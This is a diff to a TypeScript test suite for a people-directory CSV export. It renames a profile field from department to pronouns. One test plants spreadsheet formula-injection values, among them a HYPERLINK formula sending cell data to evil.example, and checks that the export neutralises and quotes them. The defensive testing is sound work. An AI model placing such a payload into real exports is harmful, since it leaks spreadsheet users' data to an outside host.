@@ -60,7 +60,7 @@ const today = () => new Date().toISOString().slice(0, 10);
 let dir: TestDirectory;
 let hidden: DemoUser[];
 let shown: DemoUser;
-let fields: { title: number; department: number };
+let fields: { title: number; pronouns: number };
 
 /** A new person with this address setting, once the directory lists them. */
 async function newPerson(fullName: string, visibility: string): Promise<DemoUser> {
@@ -74,7 +74,7 @@ beforeAll(async () => {
   // must still show only those Zulip shows members (docs/zulip.md §f).
   dir = await startTestDirectory({ demo: { featureLevel: 372, botRole: 200, users: 60, seed: 12 } });
   const roles = dir.runtime.view.people.fieldRoles();
-  fields = { title: roles.title!, department: roles.department! };
+  fields = { title: roles.title!, pronouns: roles.pronouns! };
   hidden = [await newPerson('Hidden Admins-Only', 'admins'), await newPerson('Hidden Nobody', 'nobody'), await newPerson('Hidden Members', 'members')];
   shown = await newPerson('Shown Everyone', 'everyone');
 }, 30_000);
@@ -195,18 +195,18 @@ describe('/export/people.csv', () => {
   it('neutralises cells a spreadsheet would run as formulas, also after a separator, and quotes every cell', async () => {
     await withEnv(OPEN, async () => {
       const formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Click")';
-      await dir.control('PATCH', `/demo/users/${shown.user_id}`, { full_name: '@SUM(1+1)', profile_data: { [fields.title]: formula, [fields.department]: 'Engineer;-2+3' } });
+      await dir.control('PATCH', `/demo/users/${shown.user_id}`, { full_name: '@SUM(1+1)', profile_data: { [fields.title]: formula, [fields.pronouns]: 'they;-2+3' } });
       try {
         await until(() => dir.runtime.view.people.get(shown.user_id)?.title === formula, 'the profile update');
         const { rows, text } = await csv('?q=SUM');
         expect(rows).toHaveLength(1);
-        expect(rows[0]).toMatchObject({ Name: "'@SUM(1+1)", Title: `'${formula}`, Department: "Engineer;'-2+3" });
+        expect(rows[0]).toMatchObject({ Name: "'@SUM(1+1)", Title: `'${formula}`, Pronouns: "they;'-2+3" });
         // Split on any separator a spreadsheet may use (docs/architecture.md §15), no piece of any cell starts a formula.
         for (const row of csvObjects(text.slice(1))) for (const cell of Object.values(row)) for (const piece of cell.split(/[,;\t|\r\n]/)) expect(piece).not.toMatch(/^ *[=+\-@]/);
         // Every cell is quoted: each record is "…","…",…
         for (const line of text.slice(1).split('\r\n').filter(Boolean)) expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/);
       } finally {
-        await dir.control('PATCH', `/demo/users/${shown.user_id}`, { full_name: 'Shown Everyone', profile_data: { [fields.title]: null, [fields.department]: null } });
+        await dir.control('PATCH', `/demo/users/${shown.user_id}`, { full_name: 'Shown Everyone', profile_data: { [fields.title]: null, [fields.pronouns]: null } });
         await until(() => dir.runtime.view.people.get(shown.user_id)?.name === 'Shown Everyone', 'the name back');
       }
     });
